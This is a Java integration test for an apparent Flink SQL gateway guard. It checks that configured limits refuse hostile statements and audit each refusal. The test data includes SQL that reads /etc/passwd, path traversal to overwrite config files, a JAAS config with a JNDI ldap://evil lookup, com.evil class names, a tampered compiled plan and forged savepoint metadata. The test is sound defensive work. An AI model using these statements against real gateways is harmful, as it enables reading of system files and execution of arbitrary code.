package io.github.sqlguard.rules.limits;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.sqlguard.flink.StatementJobs;
import io.github.sqlguard.testing.AuditFile;
import io.github.sqlguard.testing.GatewayRestClient;
import io.github.sqlguard.testing.GuardedGateway;
import io.github.sqlguard.testing.RestSession;

import org.apache.flink.runtime.checkpoint.Checkpoints;
import org.apache.flink.runtime.checkpoint.OperatorState;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.runtime.checkpoint.metadata.CheckpointMetadata;
import org.apache.flink.runtime.jobgraph.OperatorID;
import org.apache.flink.runtime.state.KeyGroupRangeOffsets;
import org.apache.flink.runtime.state.KeyGroupsStateHandle;
import org.apache.flink.runtime.state.filesystem.FileStateHandle;
import org.apache.flink.table.api.EnvironmentSettings;
import org.apache.flink.table.api.TableEnvironment;
import org.apache.flink.table.api.internal.TableEnvironmentInternal;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import javax.tools.JavaCompiler;
import javax.tools.ToolProvider;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;

/**
 * Issue 21 item 9 through a real gateway with the platform limits set: a UDF whose {@code eval}
 * leaves a trace (a file) is refused at {@code ADD JAR} and {@code CREATE FUNCTION … USING JAR}, and
 * its {@code eval} never runs, where on a gateway without limits (the default, as on a stock one)
 * the guard's own planning runs it; a filesystem table on {@code /etc/passwd} is refused where the
 * default gateway returns its lines; {@code pipeline.jars} is refused through a statement, through
 * configure-session and through session properties at open. Every refusal has its audit record.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PlatformLimitsGatewayIT {

    private static final Duration TIMEOUT = Duration.ofMinutes(2);
    private static final String TRACE_CLASS = "trace.udf.Trace";

    private Path dir;
    private GuardedGateway limited;
    private GuardedGateway unlimited;

    @BeforeAll
    void startGateways() throws Exception {
        dir = Files.createTempDirectory("sql-guard-limits-it");
        limited = GuardedGateway.start(Map.of(
                "sql-guard.allow.jars", dir.resolve("allowed-jars").toString(),
                "sql-guard.allow.function-classes", "com.acme.udf.*",
                "sql-guard.allow.connectors", "datagen;blackhole;print;filesystem",
                "sql-guard.allow.paths", dir.resolve("data").toString()));
        unlimited = GuardedGateway.shared();
    }

    @AfterAll
    void stopGateway() throws IOException {
        limited.close();
        try (var files = Files.walk(dir)) {
            for (Path path : files.sorted(java.util.Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(path);
            }
        }
    }

    @Test
    void refusesTheUdfJarAtAddJarAndCreateFunctionSoItsEvalNeverRuns() throws Exception {
        Path trace = dir.resolve("limited-trace.txt");
        Path jar = traceJar(dir.resolve("limited"), trace);
        try (RestSession session = limited.openSession(Map.of())) {
            RestSession.StatementResult addJar = session.execute("ADD JAR '" + jar + "'", 0, TIMEOUT);
            assertRefused(addJar, "jar-not-allowed");

            RestSession.StatementResult create = session.execute(
                    "CREATE TEMPORARY FUNCTION trace AS '" + TRACE_CLASS + "' LANGUAGE JAVA USING JAR '" + jar + "'", 0,
                    TIMEOUT);
            assertRefused(create, "jar-not-allowed", "function-class-not-allowed");

            RestSession.StatementResult call = session.execute("SELECT trace('planned')", 1, TIMEOUT);
            assertThat(call.error()).as("no such function").isNotNull();
        }
        assertThat(trace).as("the trace of the UDF's eval").doesNotExist();
    }

    @Test
    void withoutLimitsTheGuardsOwnPlanningRunsTheUdfsEvalAsFlinkDoes() throws Exception {
        Path trace = dir.resolve("unlimited-trace.txt");
        Path jar = traceJar(dir.resolve("unlimited"), trace);
        try (RestSession session = unlimited.openSession(Map.of())) {
            assertThat(session.execute("ADD JAR '" + jar + "'", 0, TIMEOUT).error()).isNull();
            assertThat(session.execute(
                    "CREATE TEMPORARY FUNCTION trace AS '" + TRACE_CLASS + "' LANGUAGE JAVA", 0, TIMEOUT).error()).isNull();
            // EXPLAIN runs nothing: the trace is left by constant folding while the statement is planned.
            assertThat(session.execute("EXPLAIN SELECT trace('planned')", 1, TIMEOUT).error()).isNull();
        }
        assertThat(trace).as("the trace of the UDF's eval, run while planning").exists();
    }

    @Test
    void refusesAFilesystemTableOnEtcPasswdThatTheDefaultGatewayReads() throws Exception {
        String passwd = "CREATE TEMPORARY TABLE passwd (line STRING) WITH ('connector' = 'filesystem', 'path' ="
                + " '/etc/passwd', 'format' = 'raw')";
        try (RestSession session = limited.openSession(Map.of())) {
            assertRefused(session.execute(passwd, 0, TIMEOUT), "path-not-allowed");
            assertRefused(session.execute(
                    "CREATE TEMPORARY TABLE passwd (line STRING) WITH ('connector' = 'filesystem', 'path' = '"
                            + dir.resolve("data") + "/../../../etc/passwd', 'format' = 'raw')", 0, TIMEOUT),
                    "path-not-allowed");
            assertThat(session.execute(
                    "CREATE TEMPORARY TABLE landing (line STRING) WITH ('connector' = 'filesystem', 'path' = '"
                            + dir.resolve("data/landing") + "', 'format' = 'raw')", 0, TIMEOUT).error())
                    .as("a path under an allowed location").isNull();
        }
        try (RestSession session = unlimited.openSession(Map.of())) {
            assertThat(session.execute(passwd, 0, TIMEOUT).error()).isNull();
            RestSession.StatementResult rows = session.execute("SELECT * FROM passwd", 1, TIMEOUT);
            assertThat(rows.error()).isNull();
            assertThat(rows.rows()).extracting(row -> row.path("fields").get(0).asText()).anyMatch(l -> l.startsWith("root:"));
        }
    }

    @Test
    void aUnicodeSpaceBeforeAnAllowedLocationIsARelativeLocationAsFlinkReadsIt() throws Exception {
        // Flink's Path keeps every character (1.20.0 and 2.3.0): each of these is a path relative to the
        // gateway's working directory, not under the allowed directory.
        try (RestSession session = limited.openSession(Map.of())) {
            for (String space : List.of("\u3000", "\u2028", "\u2003", " ")) {
                assertRefused(session.execute(
                        "ADD JAR '" + space + dir.resolve("allowed-jars/x.jar") + "'", 0, TIMEOUT), "jar-not-allowed");
                assertRefused(session.execute(
                        "CREATE TEMPORARY TABLE landing (line STRING) WITH ('connector' = 'filesystem', 'path' = '"
                                + space + dir.resolve("data/landing") + "', 'format' = 'raw')", 0, TIMEOUT),
                        "path-not-allowed");
            }
        }
    }

    @Test
    void aTablesClassOptionAndAJobsStateAndCachedFilesAreHeldToTheAllowLists() throws Exception {
        try (RestSession session = limited.openSession(Map.of())) {
            assertRefused(session.execute(
                    "CREATE TEMPORARY TABLE landing (line STRING, dt STRING) PARTITIONED BY (dt) WITH ('connector' ="
                            + " 'filesystem', 'path' = '" + dir.resolve("data/landing") + "', 'format' = 'raw',"
                            + " 'sink.partition-commit.policy.kind' = 'custom',"
                            + " 'sink.partition-commit.policy.class' = 'com.evil.Commit')", 0, TIMEOUT),
                    "function-class-not-allowed");
            assertRefused(session.execute(
                    "SET 'execution.checkpointing.dir' = 'file://" + dir.resolve("elsewhere") + "'", 0, TIMEOUT),
                    "path-not-allowed");
            assertRefused(session.execute(
                    "SET 'state.savepoints.dir' = '" + dir.resolve("elsewhere") + "'", 0, TIMEOUT), "path-not-allowed");
            // The state a job restores from is read from a location too (and its older key).
            assertRefused(session.execute(
                    "SET 'execution.state-recovery.path' = '" + dir.resolve("elsewhere/savepoint-1") + "'", 0, TIMEOUT),
                    "path-not-allowed");
            assertRefused(session.execute(
                    "SET 'execution.savepoint.path' = '" + dir.resolve("elsewhere/savepoint-1") + "'", 0, TIMEOUT),
                    "path-not-allowed");
            assertThat(session.execute(
                    "SET 'execution.checkpointing.dir' = 'file://" + dir.resolve("data/checkpoints") + "'", 0, TIMEOUT)
                    .error()).as("a directory under an allowed location").isNull();
            assertThat(session.execute(
                    "SET 'execution.state-recovery.path' = '" + dir.resolve("data/savepoint-1") + "'", 0, TIMEOUT)
                    .error()).as("a savepoint under an allowed location").isNull();
            // A file shipped to the job's tasks (Flink's distributed cache) is read by the client and the job's code.
            assertRefused(session.execute(
                    "SET 'pipeline.cached-files' = 'name:passwd,path:file:///etc/passwd'", 0, TIMEOUT),
                    "path-not-allowed");
            assertRefused(session.execute(
                    "SET 'pipeline.cached-files' = 'name:ok,path:" + dir.resolve("data/ok.txt") + ";name:passwd,path:"
                            + "/etc/passwd'", 0, TIMEOUT), "path-not-allowed");
            assertThat(session.execute(
                    "SET 'pipeline.cached-files' = 'name:ok,path:" + dir.resolve("data/ok.txt") + "'", 0, TIMEOUT)
                    .error()).as("a file under an allowed location").isNull();
        }
    }

    /**
     * Issue 29 item 5, the options Flink has no metadata for: a key shaped as a class
     * ({@code …class}, {@code …class-name}, {@code …serializer}, {@code sasl.jaas.config}'s login
     * module) or a location ({@code …location}, {@code …dir}), in a table's options or hints and in a
     * session's configuration, the state backend's factory class, the job's serialization classes,
     * and Python code, are each held to the matching allow-list.
     */
    @Test
    void optionsThatNameAClassOrALocationByTheShapeOfTheirKeyAreHeldToTheAllowLists() throws Exception {
        String landing = "CREATE TEMPORARY TABLE landing (line STRING) WITH ('connector' = 'filesystem', 'path' = '"
                + dir.resolve("data/landing") + "', 'format' = 'raw'";
        try (RestSession session = limited.openSession(Map.of())) {
            for (String option : List.of(
                    "'protobuf.message-class-name' = 'com.evil.Message'",
                    "'properties.key.serializer' = 'com.evil.Serializer'",
                    "'properties.sasl.jaas.config' = 'com.sun.security.auth.module.JndiLoginModule required"
                            + " user.provider.url=\"ldap://evil\";'")) {
                assertRefused(session.execute(landing + ", " + option + ")", 0, TIMEOUT), "function-class-not-allowed");
            }
            // The success file is written at new Path(partition, name), over whatever is there.
            assertRefused(session.execute(landing + ", 'sink.partition-commit.policy.kind' = 'success-file',"
                    + " 'sink.partition-commit.success-file.name' = '../../../conf/config.yaml')", 0, TIMEOUT),
                    "path-not-allowed");
            assertRefused(session.execute(landing + ", 'properties.ssl.truststore.location' = '"
                    + dir.resolve("elsewhere/ts.jks") + "')", 0, TIMEOUT), "path-not-allowed");
            assertThat(session.execute(landing + ", 'sink.partition-commit.policy.class' = 'com.acme.udf.Commit')", 0,
                    TIMEOUT).error()).as("an allowed class").isNull();
            assertRefused(session.execute("INSERT INTO landing /*+ OPTIONS('sink.partition-commit.policy.class' ="
                    + " 'com.evil.Commit') */ SELECT 'x'", 0, TIMEOUT), "function-class-not-allowed");

            assertRefused(session.execute("SET 'state.backend.type' = 'com.evil.BackendFactory'", 0, TIMEOUT),
                    "function-class-not-allowed");
            assertThat(session.execute("SET 'state.backend.type' = 'rocksdb'", 0, TIMEOUT).error())
                    .as("a backend Flink names").isNull();
            assertRefused(session.execute("SET 'pipeline.serialization-config' = '[com.evil.Pojo: {type: kryo}]'", 0,
                    TIMEOUT), "function-class-not-allowed");
            for (String key : List.of("state.backend.rocksdb.localdir", "table.resources.download-dir", "io.tmp.dirs")) {
                assertRefused(session.execute("SET '" + key + "' = '" + dir.resolve("data/ok") + "," + dir.resolve("elsewhere")
                        + "'", 0, TIMEOUT), "path-not-allowed");
            }
            for (String python : List.of("python.files", "python.archives", "python.requirements",
                    "python.client.executable")) {
                assertRefused(session.execute("SET '" + python + "' = '" + dir.resolve("elsewhere/code.zip") + "#x'", 0,
                        TIMEOUT), "jar-not-allowed");
            }
            assertThat(session.execute("SET 'python.files' = '" + dir.resolve("allowed-jars/udf.py") + "'", 0, TIMEOUT)
                    .error()).as("Python code from an allowed location").isNull();
        }
        GatewayRestClient rest = new GatewayRestClient(limited.port());
        GatewayRestClient.Response open = rest.post("/sessions", Map.of("properties",
                Map.of("python.executable", dir.resolve("elsewhere/python").toString())));
        assertThat(open.ok()).isFalse();
        assertThat(open.errors()).contains("jar-not-allowed");
    }

    @Test
    void flinksOptionsThatListClassesUnderOtherKeysAreHeldToTheFunctionClasses() throws Exception {
        // Issue 29, the fifth hostile read: execution.job-listeners names JobListener classes that Flink's
        // StreamExecutionEnvironment#configure instantiates in the gateway, whichever statement is planned.
        String listener = TracingJobListener.class.getName();
        try (RestSession session = limited.openSession(Map.of())) {
            assertThat(session.execute("CREATE TEMPORARY TABLE ticks (n INT) WITH ('connector' = 'datagen',"
                    + " 'number-of-rows' = '3')", 0, TIMEOUT).error()).isNull();
            assertRefused(session.execute("SELECT n FROM ticks", Map.of("execution.job-listeners", listener), 0, TIMEOUT),
                    "function-class-not-allowed");
            assertRefused(session.execute("SET 'execution.job-listeners' = '" + listener + "'", 0, TIMEOUT),
                    "function-class-not-allowed");
            // Flink reads a list option's entries separated by ';': an allowed package first hides nothing.
            assertRefused(session.execute("SET 'execution.job-listeners' = 'com.acme.udf.Listener;" + listener + "'", 0,
                    TIMEOUT), "function-class-not-allowed");
            assertRefused(session.execute("SET 'execution.job-status-changed-listeners' = 'com.evil.ListenerFactory'", 0,
                    TIMEOUT), "function-class-not-allowed");
            assertRefused(session.execute("SET 'high-availability.type' = 'com.evil.HaServicesFactory'", 0, TIMEOUT),
                    "function-class-not-allowed");
            assertThat(session.execute("SET 'high-availability.type' = 'NONE'", 0, TIMEOUT).error())
                    .as("a high-availability mode Flink names").isNull();
            // An allowed class is Flink's to load (this one does not exist: Flink fails the SET, not the guard).
            assertThat(session.execute("SET 'execution.job-listeners' = 'com.acme.udf.Listener'", 0, TIMEOUT).error())
                    .as("an allowed class").doesNotContain("function-class-not-allowed");
        }
        GatewayRestClient rest = new GatewayRestClient(limited.port());
        GatewayRestClient.Response open = rest.post("/sessions", Map.of("properties",
                Map.of("execution.job-listeners", listener)));
        assertThat(open.ok()).isFalse();
        assertThat(open.errors()).contains("function-class-not-allowed");
        assertThat(System.getProperty(TracingJobListener.TRACE_PROPERTY))
                .as("the listener's static initialiser ran in the gateway").isNull();
    }

    @Test
    void aStoredPlanThatCallsAFunctionByAClassOutsideTheListIsRefusedBeforeItIsRestored() throws Exception {
        // Issue 29, the fifth hostile read: Flink's plan reader loads a call's "class" with its static initialiser
        // (CompiledPlanSerdeUtil#loadClass, initialize = true) before it checks that the class is a function.
        Path plan = dir.resolve("data/plans/upper.json");
        try (RestSession session = limited.openSession(Map.of())) {
            assertThat(session.execute("CREATE TEMPORARY TABLE words (w STRING) WITH ('connector' = 'datagen',"
                    + " 'number-of-rows' = '3')", 0, TIMEOUT).error()).isNull();
            assertThat(session.execute("CREATE TEMPORARY TABLE shouted (w STRING) WITH ('connector' = 'filesystem',"
                    + " 'path' = '" + dir.resolve("data/shouted") + "', 'format' = 'raw')", 0, TIMEOUT).error()).isNull();
            String insert = "INSERT INTO shouted SELECT UPPER(w) FROM words";
            assertThat(session.execute("COMPILE PLAN '" + plan + "' FOR " + insert, 0, TIMEOUT).error()).isNull();
            // As a user who can write where plans may lie rewrites it: the call names a class of the class path.
            String json = Files.readString(plan);
            String edited = json.replaceFirst("\"internalName\"\\s*:\\s*\"\\$UPPER\\$1\"",
                    "\"class\" : \"" + TracingClass.class.getName().replace("$", "\\$") + "\"");
            assertThat(edited).as("the plan's call of UPPER").isNotEqualTo(json);
            Files.writeString(plan, edited);

            RestSession.StatementResult executed = session.execute("EXECUTE PLAN '" + plan + "'", 0, TIMEOUT);
            assertRefused(executed, "function-class-not-allowed");
            assertThat(executed.error()).contains(TracingClass.class.getName(), "the plan file '" + plan + "'");
            assertRefused(session.execute("COMPILE AND EXECUTE PLAN '" + plan + "' FOR " + insert, 0, TIMEOUT),
                    "function-class-not-allowed");
        }
        assertThat(System.getProperty(TracingClass.TRACE_PROPERTY))
                .as("the named class's static initialiser ran in the gateway").isNull();
    }

    /**
     * Issue 29 class 8: an EXPLAIN of a statement the limits refuse answers the guard's section, which
     * says the statement was not planned and why, in place of Flink's plan (which would end in the
     * INSERT's {@code Sink(table=[...copy], ...)}): for a location, a function class and a jar. Each
     * explained statement is one Flink plans when it is sent to a stock gateway.
     */
    @Test
    void anExplainOfAStatementTheLimitsRefuseIsNotPlanned() throws Exception {
        try (RestSession session = limited.openSession(Map.of())) {
            // The raw format: Flink's own (flink-table-runtime), so Flink can plan this sink on this class path.
            assertThat(session.execute("CREATE TEMPORARY TABLE copy (a INT) WITH ('connector' = 'filesystem', 'path' = '"
                    + dir.resolve("data/copy") + "', 'format' = 'raw')", 0, TIMEOUT).error()).isNull();
            // An INSERT whose hint points the sink elsewhere: a shape both Flink lines explain (1.20's parser
            // has no EXPLAIN of CREATE TABLE … AS).
            assertExplainedNotPlanned(session.execute(
                    "EXPLAIN INSERT INTO copy /*+ OPTIONS('path' = '" + dir.resolve("elsewhere") + "') */ SELECT 1", 1,
                    TIMEOUT), "path-not-allowed");
            // A class the filesystem sink would load to commit a partition, outside sql-guard.allow.function-classes.
            assertExplainedNotPlanned(session.execute(
                    "EXPLAIN INSERT INTO copy /*+ OPTIONS('sink.partition-commit.policy.kind' = 'custom',"
                            + " 'sink.partition-commit.policy.class' = 'com.evil.Commit') */ SELECT 1", 1, TIMEOUT),
                    "function-class-not-allowed");
            // A jar outside sql-guard.allow.jars in the EXPLAIN call's own execution config.
            assertExplainedNotPlanned(session.execute(
                    "EXPLAIN INSERT INTO copy SELECT 1",
                    Map.of("pipeline.jars", "file://" + dir.resolve("elsewhere/udf.jar")), 1, TIMEOUT),
                    "jar-not-allowed");
            // The same INSERT within the limits is explained by Flink, its Sink included: the checks above read
            // the text that would carry Flink's plan.
            RestSession.StatementResult planned = session.execute("EXPLAIN INSERT INTO copy SELECT 1", 1, TIMEOUT);
            assertThat(planned.error()).isNull();
            assertThat(planned.rows().get(0).path("fields").get(0).asText())
                    .contains("== Abstract Syntax Tree ==").contains("Sink(table=[default_catalog.default_database.copy]");
        }
    }

    private static void assertExplainedNotPlanned(RestSession.StatementResult explained, String ruleId) throws IOException {
        assertThat(explained.error()).as(ruleId).isNull();
        assertThat(explained.rows()).as(ruleId).hasSize(1);
        String text = explained.rows().get(0).path("fields").get(0).asText();
        assertThat(text).as(ruleId).contains("was not planned").contains(ruleId)
                .doesNotContain("== Abstract Syntax Tree ==").doesNotContain("== Optimized Physical Plan ==")
                .doesNotContain("Sink(");
        JsonNode record = AuditFile.forOperation(explained.operationHandle()).orElseThrow();
        assertThat(record.path("verdict").asText()).as(ruleId).isEqualTo("BLOCK");
        assertThat(record.path("outcome").asText()).as(ruleId).isEqualTo("explained");
    }

    @Test
    void aSecretInARefusedLocationOrClassStaysOutOfTheRefusalTheAuditAndTheLog() throws Exception {
        // Each value carries a secret the redactor knows (a URI's user:password@, a JAAS password) in an
        // option whose refusal quotes it: the finding's text names the value and the option it came from.
        Map<String, String> refused = Map.of(
                "CREATE TEMPORARY TABLE outside (a STRING) WITH ('connector' = 'filesystem', 'path' ="
                        + " 'file://reader:S3CR3T-R33-A@localhost/outside/x', 'format' = 'csv')", "path-not-allowed",
                "SET 'execution.checkpointing.dir' = 's3://AKIA:S3CR3T-R33-B@bucket/checkpoints'", "path-not-allowed",
                "SET 'pipeline.cached-files' = 'name:x,path:hdfs://reader:S3CR3T-R33-C@namenode/f'", "path-not-allowed",
                "CREATE TEMPORARY TABLE login (a STRING) WITH ('connector' = 'filesystem', 'path' = '"
                        + dir.resolve("data/login") + "', 'format' = 'csv', 'properties.sasl.jaas.config' ="
                        + " 'com.evil.Login required password=\"S3CR3T-R33-D\";')", "function-class-not-allowed");
        Path logFile = GuardedGateway.auditFile().resolveSibling("sql-guard-gateway.log");
        long logged = Files.exists(logFile) ? Files.size(logFile) : 0;
        try (RestSession session = limited.openSession(Map.of())) {
            for (Map.Entry<String, String> statement : refused.entrySet()) {
                RestSession.StatementResult result = session.execute(statement.getKey(), 0, TIMEOUT);
                assertRefused(result, statement.getValue());
                assertThat(result.error()).as(statement.getKey()).doesNotContain("S3CR3T-R33").contains("****");
                JsonNode record = AuditFile.forOperation(result.operationHandle()).orElseThrow();
                assertThat(record.toString()).as(statement.getKey()).doesNotContain("S3CR3T-R33");
            }
        }
        assertThat(AuditFile.allRecords().toString()).doesNotContain("S3CR3T-R33");
        byte[] log = Files.readAllBytes(logFile);
        assertThat(new String(log, (int) logged, log.length - (int) logged, java.nio.charset.StandardCharsets.UTF_8))
                .as("the gateway's log, where Flink logs the refusal").contains("path-not-allowed")
                .doesNotContain("S3CR3T-R33");
    }

    @Test
    void refusesPipelineJarsThroughAStatementConfigureSessionAndSessionProperties() throws Exception {
        String jars = "file://" + dir.resolve("elsewhere/udf.jar");
        GatewayRestClient rest = new GatewayRestClient(limited.port());
        try (RestSession session = limited.openSession(Map.of())) {
            assertRefused(session.execute("SET 'pipeline.jars' = '" + jars + "'", 0, TIMEOUT), "jar-not-allowed");

            GatewayRestClient.Response configured = rest.post(
                    "/sessions/" + session.handle() + "/configure-session",
                    Map.of("statement", "SET 'pipeline.classpaths' = '" + jars + "'"));
            assertThat(configured.ok()).isFalse();
            assertThat(configured.errors()).contains("jar-not-allowed").contains("The statement was not planned.");
            JsonNode record = AuditFile.forSession(session.handle()).stream()
                    .filter(r -> r.path("call").asText().equals("configureSession")).reduce((a, b) -> b).orElseThrow();
            assertBlockedRecord(record, "jar-not-allowed");

            GatewayRestClient.Response config = rest.get("/sessions/" + session.handle() + "/config");
            assertThat(config.body().toString()).doesNotContain("pipeline.jars").doesNotContain("pipeline.classpaths");
        }

        GatewayRestClient.Response open = rest.post("/sessions", Map.of("properties", Map.of("pipeline.jars", jars)));
        assertThat(open.ok()).isFalse();
        assertThat(open.errors()).contains("jar-not-allowed");
        List<JsonNode> opens = new ArrayList<>();
        AuditFile.records().stream().filter(r -> r.path("call").asText().equals("openSession"))
                .filter(r -> r.path("findings").toString().contains("jar-not-allowed")).forEach(opens::add);
        assertThat(opens).as("the refused openSession's record").isNotEmpty();
        assertBlockedRecord(opens.get(opens.size() - 1), "jar-not-allowed");

        try (RestSession session = unlimited.openSession(Map.of())) {
            assertThat(session.execute("SET 'pipeline.jars' = '" + jars + "'", 0, TIMEOUT).error())
                    .as("accepted without limits, as on a stock gateway").isNull();
            GatewayRestClient.Response configuredUnlimited = new GatewayRestClient(unlimited.port()).post(
                    "/sessions/" + session.handle() + "/configure-session",
                    Map.of("statement", "SET 'pipeline.classpaths' = '" + jars + "'"));
            assertThat(configuredUnlimited.ok()).as(configuredUnlimited.errors()).isTrue();
        }
    }

    /**
     * The third hostile read of issue 29: a savepoint's {@code _metadata} names each state file by its
     * path, anywhere, and the job's tasks open those files when they restore. A {@code _metadata} in
     * an allowed directory (written by the user, as a filesystem table there can) whose keyed state
     * files are elsewhere is refused as {@code path-not-allowed}, naming the file; the same savepoint
     * with its files beside it is not.
     */
    @Test
    void aSavepointWhoseMetadataNamesStateFilesOutsideTheAllowedPathsIsRefused() throws Exception {
        String tables = "CREATE TEMPORARY TABLE orders (order_id STRING, user_id STRING, amount DOUBLE) WITH ('connector' ="
                + " 'datagen', 'number-of-rows' = '20', 'fields.user_id.length' = '1')";
        String sink = "CREATE TEMPORARY TABLE counts (user_id STRING, n BIGINT) WITH ('connector' = 'blackhole')";
        String insert = "INSERT INTO counts SELECT user_id, COUNT(*) FROM orders GROUP BY user_id";
        Path outsideFile = Files.writeString(Files.createDirectories(dir.resolve("elsewhere")).resolve("state"), "not yours");
        Path insideFile = Files.writeString(Files.createDirectories(dir.resolve("data/sp-inside")).resolve("state"), "state");
        Path outside = dir.resolve("data/sp-outside");
        Path inside = dir.resolve("data/sp-inside");
        Map<OperatorID, String> claims = claims(tables, sink, insert);
        writeSavepoint(outside, claims, outsideFile);
        writeSavepoint(inside, claims, insideFile);
        try (RestSession session = limited.openSession(Map.of())) {
            session.execute(tables, 0, TIMEOUT);
            session.execute(sink, 0, TIMEOUT);
            session.execute("SET 'table.exec.state.ttl' = '1 h'", 0, TIMEOUT);

            RestSession.StatementResult refused =
                    session.execute(insert, Map.of("execution.state-recovery.path", outside.toString()), 0, TIMEOUT);

            assertThat(refused.error()).as("refusal").isNotNull().contains("path-not-allowed")
                    .contains("The state file '" + new org.apache.flink.core.fs.Path(outsideFile.toUri()) + "'");
            assertBlockedRecord(AuditFile.forOperation(refused.operationHandle()).orElseThrow(), "path-not-allowed");

            RestSession.StatementResult beside =
                    session.execute("EXPLAIN " + insert, Map.of("execution.state-recovery.path", inside.toString()), 1, TIMEOUT);
            assertThat(beside.error()).isNull();
            assertThat(beside.rows().get(0).path("fields").get(0).asText()).doesNotContain("path-not-allowed");
        }
    }

    /** The operator ids a job of {@code insert} has, as the guard computes them (Flink's own translation). */
    private static Map<OperatorID, String> claims(String tables, String sink, String insert) {
        TableEnvironmentInternal tEnv =
                (TableEnvironmentInternal) TableEnvironment.create(EnvironmentSettings.inStreamingMode());
        tEnv.getConfig().set("table.exec.state.ttl", "1 h");
        tEnv.executeSql(tables);
        tEnv.executeSql(sink);
        return StatementJobs.judgedJob(tEnv, tEnv.compilePlanSql(insert).asJsonString()).claims();
    }

    /** A savepoint's {@code _metadata} in {@code target} (Flink's own writer) whose every operator's keyed state is {@code stateFile}. */
    private static void writeSavepoint(Path target, Map<OperatorID, String> claims, Path stateFile) throws Exception {
        List<OperatorState> states = new ArrayList<>();
        for (OperatorID id : claims.keySet()) {
            OperatorState state = operatorState(id);
            state.putState(0, OperatorSubtaskState.builder()
                    .setManagedKeyedState(new KeyGroupsStateHandle(new KeyGroupRangeOffsets(0, 127),
                            new FileStateHandle(new org.apache.flink.core.fs.Path(stateFile.toUri()), Files.size(stateFile))))
                    .build());
            states.add(state);
        }
        Files.createDirectories(target);
        try (OutputStream out = Files.newOutputStream(target.resolve("_metadata"))) {
            Checkpoints.storeCheckpointMetadata(new CheckpointMetadata(1L, states, List.of()), out);
        }
    }

    /** {@code new OperatorState(...)}: Flink 2.x adds the operator's name and uid to the constructor of 1.20. */
    private static OperatorState operatorState(OperatorID id) throws Exception {
        for (java.lang.reflect.Constructor<?> constructor : OperatorState.class.getConstructors()) {
            if (constructor.getParameterCount() == 5) {
                return (OperatorState) constructor.newInstance(null, null, id, 1, 128);
            }
            if (constructor.getParameterCount() == 3) {
                return (OperatorState) constructor.newInstance(id, 1, 128);
            }
        }
        throw new IllegalStateException("no constructor of OperatorState this test knows");
    }

    private static void assertRefused(RestSession.StatementResult result, String... rules) throws IOException {
        assertThat(result.error()).as("refusal").isNotNull().contains(rules).contains("The statement was not planned.");
        JsonNode record = AuditFile.forOperation(result.operationHandle()).orElseThrow();
        assertBlockedRecord(record, rules);
    }

    private static void assertBlockedRecord(JsonNode record, String... rules) {
        assertThat(record.path("verdict").asText()).isEqualTo("BLOCK");
        assertThat(record.path("outcome").asText()).isEqualTo("blocked");
        List<String> ids = new ArrayList<>();
        record.path("findings").forEach(f -> ids.add(f.path("id").asText()));
        assertThat(ids).contains(rules);
    }

    /** A UDF jar whose {@code trace(s)} appends {@code s} to {@code trace} and returns it. */
    private static Path traceJar(Path dir, Path trace) throws IOException {
        Path src = Files.createDirectories(dir.resolve("src/trace/udf")).resolve("Trace.java");
        Files.writeString(src, """
                package trace.udf;

                import java.nio.file.Files;
                import java.nio.file.Path;
                import java.nio.file.StandardOpenOption;

                public class Trace extends org.apache.flink.table.functions.ScalarFunction {
                    public String eval(String s) {
                        try {
                            Files.writeString(Path.of("%s"), s, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
                        } catch (java.io.IOException e) {
                            throw new java.io.UncheckedIOException(e);
                        }
                        return s;
                    }
                }
                """.formatted(trace.toString().replace("\\", "\\\\")));
        Path classes = Files.createDirectories(dir.resolve("classes"));
        JavaCompiler javac = ToolProvider.getSystemJavaCompiler();
        int exit = javac.run(null, null, null, "-classpath", System.getProperty("java.class.path"), "-d",
                classes.toString(), src.toString());
        if (exit != 0) {
            throw new IllegalStateException("javac failed to compile the trace UDF");
        }
        Path jar = dir.resolve("trace-udf.jar");
        try (OutputStream file = Files.newOutputStream(jar); JarOutputStream out = new JarOutputStream(file)) {
            out.putNextEntry(new JarEntry("trace/udf/Trace.class"));
            out.write(Files.readAllBytes(classes.resolve("trace/udf/Trace.class")));
            out.closeEntry();
        }
        return jar;
    }
}
